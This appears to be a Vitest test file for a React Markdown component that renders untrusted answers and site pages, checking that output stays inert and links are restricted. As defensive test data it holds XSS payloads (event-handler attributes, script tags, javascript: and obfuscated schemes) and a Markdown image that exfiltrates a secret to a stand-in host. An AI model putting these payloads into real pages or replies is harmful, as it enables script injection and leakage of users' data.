// @vitest-environment jsdom
import { cleanup, render } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { Markdown, type DocumentStyle } from './Markdown';

afterEach(() => {
  cleanup();
});

function show(text: string): HTMLElement {
  return render(<Markdown text={text} />).container;
}

/** What F1/F3 require of any rendering: no element that runs script or loads a URL by itself. */
function expectInert(container: HTMLElement): void {
  expect(
    container.querySelectorAll('img, iframe, svg, script, object, embed, details, style, link'),
  ).toHaveLength(0);
  for (const element of container.querySelectorAll('*')) {
    for (const attribute of element.getAttributeNames()) {
      expect(attribute.startsWith('on'), `${element.tagName} ${attribute}`).toBe(false);
      expect(['src', 'srcdoc', 'style', 'formaction']).not.toContain(attribute);
    }
  }
  for (const link of container.querySelectorAll('a')) {
    expect(link.getAttribute('href') ?? '').toMatch(/^(https?:|mailto:)/);
  }
}

describe('Markdown: untrusted answers (SECURITY F1, F3)', () => {
  const payloads = [
    '<img src=x onerror=window.__x=1>',
    '<svg onload=window.__x=1><circle r=1 /></svg>',
    '<iframe srcdoc="<script>parent.__x=1</script>"></iframe>',
    '<details open ontoggle=window.__x=1>x</details>',
    '<script>window.__x=1</script>',
  ];

  it.each(payloads)('shows raw HTML as the visitor would read it, inert: %s', (payload) => {
    const container = show(`Look: ${payload}`);
    expectInert(container);
    expect(container.textContent).toBe(`Look: ${payload}`);
  });

  it.each([
    ['[a](javascript:alert(1))', 'javascript:'],
    ['[a](JavaScript:alert(1))', 'mixed-case javascript:'],
    ['[a](data:text/html,<script>alert(1)</script>)', 'data:'],
    ['[a](jav&#x61;script:alert(1))', 'entity-obfuscated javascript:'],
    ['[a](java\tscript:alert(1))', 'tab inside the scheme'],
    ['[a]( javascript:alert(1))', 'leading space'],
    ['[a](vbscript:msgbox(1))', 'vbscript:'],
    ['[a](/relative/path)', 'relative URL'],
  ])('shows %s as plain link text (%s)', (source) => {
    const container = show(`Click ${source} now`);
    expectInert(container);
    expect(container.querySelector('a')).toBeNull();
    expect(container.textContent).toBe('Click a now');
  });

  it('never loads a Markdown image: only its alt text is shown (exfiltration)', () => {
    const container = show('Done ![x](http://exfil.test/?q=secret) and ![logo](https://cdn.test/l.png)');
    expectInert(container);
    expect(container.textContent).toBe('Done x and logo');
    expect(container.innerHTML).not.toContain('exfil.test');
  });

  it('does not turn an image wrapped in a link into a fetch either', () => {
    const container = show('[![x](http://exfil.test/?q=secret)](https://example.com/)');
    expectInert(container);
    expect(container.innerHTML).not.toContain('exfil.test');
    expect(container.querySelector('a')?.getAttribute('href')).toBe('https://example.com/');
  });

  it('keeps a payload inside code as visible text', () => {
    const container = show('Try `<img src=x onerror=alert(1)>`\n\n```html\n<svg onload=alert(1)>\n```');
    expectInert(container);
    expect(container.querySelectorAll('code')[0]?.textContent).toBe('<img src=x onerror=alert(1)>');
    expect(container.querySelector('pre')?.textContent).toBe('<svg onload=alert(1)>');
  });
});

describe('Markdown: formatting', () => {
  it('renders safe links that open in a new tab without referrer or opener', () => {
    const container = show('See [the docs](https://example.com/a?b=1) or [mail us](mailto:hi@example.com).');
    const links = [...container.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual([
      'https://example.com/a?b=1',
      'mailto:hi@example.com',
    ]);
    expect(links[0]?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(links[0]?.getAttribute('target')).toBe('_blank');
    expect(links[0]?.textContent).toBe('the docs');
  });

  it('renders bold, italic, code, headings as bold lines, paragraphs and line breaks', () => {
    const container = show('## Opening hours\n\nWe are **open** on *weekdays*,\nuse `code`.\n\nBye');
    const paragraphs = [...container.querySelectorAll('p')];
    expect(paragraphs.map((p) => p.textContent)).toEqual([
      'Opening hours',
      'We are open on weekdays,use code.',
      'Bye',
    ]);
    expect(container.querySelector('h2')).toBeNull();
    expect(paragraphs[0]?.querySelector('strong')?.textContent).toBe('Opening hours');
    expect(paragraphs[1]?.querySelector('strong')?.textContent).toBe('open');
    expect(paragraphs[1]?.querySelector('em')?.textContent).toBe('weekdays');
    expect(paragraphs[1]?.querySelector('br')).not.toBeNull();
    expect(paragraphs[1]?.querySelector('code')?.textContent).toBe('code');
  });

  it('renders bullet and numbered lists', () => {
    const container = show('Plans:\n- Basic\n- **Pro**\n\n1. Sign up\n2. Train\n   your agent');
    expect([...container.querySelectorAll('ul > li')].map((li) => li.textContent)).toEqual(['Basic', 'Pro']);
    expect([...container.querySelectorAll('ol > li')].map((li) => li.textContent)).toEqual([
      'Sign up',
      'Trainyour agent',
    ]);
  });

  it('leaves snake_case words, lone stars and unclosed markers as they are', () => {
    const container = show('Use my_var_name, 2 * 3 = 6 and **unclosed');
    expect(container.textContent).toBe('Use my_var_name, 2 * 3 = 6 and **unclosed');
    expect(container.querySelector('em, strong')).toBeNull();
  });

  it('shows an unfinished code fence (a reply still arriving) as code so far', () => {
    const container = show('Run:\n```\nnpm start');
    expect(container.querySelector('pre')?.textContent).toBe('npm start');
  });
});

describe('Markdown: our own pages (document style)', () => {
  const style: DocumentStyle = {
    headingLevel: 3,
    siteLink: (href, children) => (
      <a data-site-link href={href}>
        {children}
      </a>
    ),
  };

  it('shows headings as headings and follows links inside the site', () => {
    const { container } = render(
      <Markdown
        text={'### Refunds\n\nSee the [Refund Policy](#refund-policy) or [write to us](/contact-us).'}
        document={style}
      />,
    );
    expect(container.querySelector('h3')?.textContent).toBe('Refunds');
    expect([...container.querySelectorAll('a[data-site-link]')].map((a) => a.getAttribute('href'))).toEqual([
      '#refund-policy',
      '/contact-us',
    ]);
  });

  it('still refuses what it refuses in an answer: another host, script, a backslash path', () => {
    const { container } = render(
      <Markdown text={'[a](//evil.test/x) [b](javascript:alert(1)) [c](/\\evil.test)'} document={style} />,
    );
    expectInert(container);
    expect(container.querySelector('a')).toBeNull();
    expect(container.textContent).toBe('a b c');
  });

  it('keeps an answer’s links inside the site as text', () => {
    const container = show('Read [the policy](/legal#refund-policy).');
    expect(container.querySelector('a')).toBeNull();
    expect(container.textContent).toBe('Read the policy.');
  });
});
